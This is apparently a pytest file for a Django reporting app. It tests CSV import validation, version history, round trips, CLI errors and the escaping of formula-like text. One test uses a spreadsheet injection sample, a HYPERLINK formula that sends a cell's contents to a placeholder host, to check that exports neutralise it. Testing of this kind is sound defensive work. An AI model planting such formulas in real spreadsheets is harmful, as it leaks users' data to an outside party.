"""Section 2 of the contract: all-or-nothing import with every bad row named, and round trips."""

import csv
import io
import subprocess
import sys

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError

from bakohumas.conftest import FULL_VALUES
from bakohumas.reports.csv_io import export_reports_csv, parse_reports_csv, reports_import
from bakohumas.reports.models import ReportValue, Submission, SubmissionVersion

pytestmark = pytest.mark.django_db

CODES = list(FULL_VALUES)
HEADER = ["kode_satker", "periode", "tanggal_lapor", *CODES]


def _row(**overrides):
    values = {k: ("ya" if v == 1 else "tidak") if k in {"wa_bakohumas_eksternal", "wa_media_center",
              "media_center_aktif", "kendala_sdm", "kendala_anggaran", "kendala_sarpras"} and v in (0, 1)
              else v for k, v in FULL_VALUES.items()}
    row = {"kode_satker": "3571", "periode": "2025Q2", "tanggal_lapor": "2025-07-08", **values, **overrides}
    return [str(row[column]) for column in HEADER]


def _csv(*rows, header=HEADER):
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(header)
    writer.writerows(rows)
    return out.getvalue()


def test_it_imports_valid_rows_in_any_yes_no_spelling():
    text = _csv(_row(), _row(kode_satker="3572", wa_bakohumas_eksternal="Y", wa_media_center="FALSE"),
                _row(kode_satker="3573", wa_bakohumas_eksternal="1", wa_media_center="t"))
    parsed = parse_reports_csv("\ufeff" + text)
    assert parsed.errors == []
    assert reports_import(parsed, actor=None, source="uji.csv") == {"baru": 3, "diganti": 0, "sama": 0}
    values = dict(ReportValue.objects.filter(submission__office__code="3572").values_list("code", "number"))
    assert values["wa_bakohumas_eksternal"] == 1 and values["wa_media_center"] == 0
    assert Submission.objects.get(office__code="3571").status == Submission.Status.SUBMITTED


def test_every_bad_row_is_named_with_row_column_and_reason():
    text = _csv(
        _row(),
        _row(kode_satker="9999"),
        _row(kode_satker="35"),
        _row(kode_satker="3572", periode="2025Q5"),
        _row(kode_satker="3573", tanggal_lapor="08/07/2025"),
        _row(kode_satker="3574", berita_website="tiga"),
        _row(kode_satker="3575", kerja_sama_media="-1"),
        _row(kode_satker="3576", wa_media_center="mungkin"),
        _row(kode_satker="3577", unggahan_medsos="3", unggahan_seremonial="5"),
        _row(),
    )
    parsed = parse_reports_csv(text)
    found = {(e.row, e.column) for e in parsed.errors}
    assert found == {(3, "kode_satker"), (4, "kode_satker"), (5, "periode"), (6, "tanggal_lapor"),
                     (7, "berita_website"), (8, "kerja_sama_media"), (9, "wa_media_center"),
                     (10, "unggahan_seremonial"), (11, "kode_satker")}
    reasons = {e.row: e.reason for e in parsed.errors}
    assert "tidak dikenal" in reasons[3]
    assert "bukan KPU Kabupaten/Kota" in reasons[4]
    assert "sudah ada di baris 2" in reasons[11]
    assert "negatif" in reasons[8]


def test_a_missing_required_column_is_reported_on_the_header():
    header = [c for c in HEADER if c != "kendala_sdm"]
    parsed = parse_reports_csv(_csv(header=header))
    assert [(e.row, e.column) for e in parsed.errors] == [(1, "kendala_sdm")]


def test_a_rejected_import_writes_nothing(tmp_path):
    path = tmp_path / "laporan.csv"
    path.write_text(_csv(_row(), _row(kode_satker="3572", periode="bukan")), encoding="utf-8")
    with pytest.raises(CommandError):
        call_command("import_reports", str(path))
    assert Submission.objects.count() == 0 and ReportValue.objects.count() == 0


def test_importing_again_replaces_values_and_keeps_history():
    reports_import(parse_reports_csv(_csv(_row(berita_website="5"))), actor=None, source="a.csv")
    parsed = parse_reports_csv(_csv(_row(berita_website="9")))
    assert parsed.rows[0].change == "diganti" and parsed.rows[0].changed_codes == ["berita_website"]
    reports_import(parsed, actor=None, source="b.csv")
    submission = Submission.objects.get()
    assert submission.value_map()["berita_website"] == 9
    history = list(SubmissionVersion.objects.filter(submission=submission).order_by("number"))
    assert [v.values["berita_website"] for v in history] == [5, 9]


def test_an_unchanged_row_is_left_alone():
    reports_import(parse_reports_csv(_csv(_row())), actor=None, source="a.csv")
    parsed = parse_reports_csv(_csv(_row()))
    assert parsed.counts() == {"baru": 0, "diganti": 0, "sama": 1}


def test_export_then_import_round_trips(make_report, tmp_path):
    make_report("3571", "2025Q2", wa_bakohumas_eksternal=1, catatan="Catatan, dengan koma \"dan\" kutip")
    make_report("3572", "2025Q2", kerja_sama_media=0)
    make_report("3301", "2025Q2")  # another province: not in the export of 35
    exported = export_reports_csv(region=Submission.objects.get(office__code="3571").office.parent,
                                  period_code="2025Q2")
    assert exported.count("\n") == 3
    before = {s.office.code: s.value_map() for s in Submission.objects.select_related("office")}
    Submission.objects.all().delete()
    parsed = parse_reports_csv(exported)
    assert parsed.errors == []
    reports_import(parsed, actor=None, source="ekspor.csv")
    after = {s.office.code: s.value_map() for s in Submission.objects.select_related("office")}
    assert after == {code: before[code] for code in ("3571", "3572")}
    assert export_reports_csv(region=Submission.objects.first().office.parent, period_code="2025Q2") == exported


def test_the_cli_exports_and_imports(make_report, tmp_path):
    make_report("3571", "2025Q2")
    out = tmp_path / "out.csv"
    call_command("export_reports", "--region", "35", "--period", "2025Q2", str(out))
    Submission.objects.all().delete()
    call_command("import_reports", str(out))
    assert Submission.objects.filter(office__code="3571", period_id="2025Q2").exists()


@pytest.fixture(scope="module")
def cli_env(tmp_path_factory):
    """A separate, migrated SQLite database for running the real `bakohumas` command."""
    env = {"BAKOHUMAS_DATA_DIR": str(tmp_path_factory.mktemp("cli")), "PATH": "/usr/bin:/bin"}
    subprocess.run([sys.executable, "-m", "bakohumas.cli", "migrate", "-v0"], env=env, check=True)
    return env


@pytest.mark.parametrize("args", [
    ["export-reports", "--region", "77", "--period", "2025Q2", "-"],
    ["export-reports", "--region", "35", "--period", "2025-2", "-"],
    ["evaluate", "--period", "2025Q9"],
    ["evaluate", "--period", "2025Q2", "--region", "99"],
    ["evaluate", "--period", "2025Q2", "--format", "odt"],
    ["evaluate", "--period", "2025Q2", "--missing-rule", "nebak"],
    ["import-reports", "/tidak/ada.csv"],
])
def test_bad_cli_input_gives_one_line_and_a_non_zero_exit(args, cli_env):
    result = subprocess.run([sys.executable, "-m", "bakohumas.cli", *args], env=cli_env,
                            capture_output=True, text=True)
    assert result.returncode != 0
    assert len(result.stderr.strip().splitlines()) == 1, result.stderr
    assert "Traceback" not in result.stderr


def test_formula_like_text_is_exported_behind_an_apostrophe_and_read_back(make_report, jatim):
    hostile = "=HYPERLINK(\"http://contoh.test/?\"&A1,\"Klik\")"
    make_report("3571", "2025Q2", uraian_kendala=hostile, catatan="-kurang staf", berita_website=0)
    exported = export_reports_csv(region=jatim, period_code="2025Q2")
    row = next(csv.DictReader(io.StringIO(exported)))
    assert row["uraian_kendala"] == "'" + hostile and row["catatan"] == "'-kurang staf"
    assert row["berita_website"] == "0" and row["kode_satker"] == "3571"  # numbers and codes untouched
    before = Submission.objects.get().value_map()
    Submission.objects.all().delete()
    parsed = parse_reports_csv(exported)
    assert parsed.errors == []
    reports_import(parsed, actor=None, source="ekspor.csv")
    assert Submission.objects.get().value_map() == before
    assert export_reports_csv(region=jatim, period_code="2025Q2") == exported
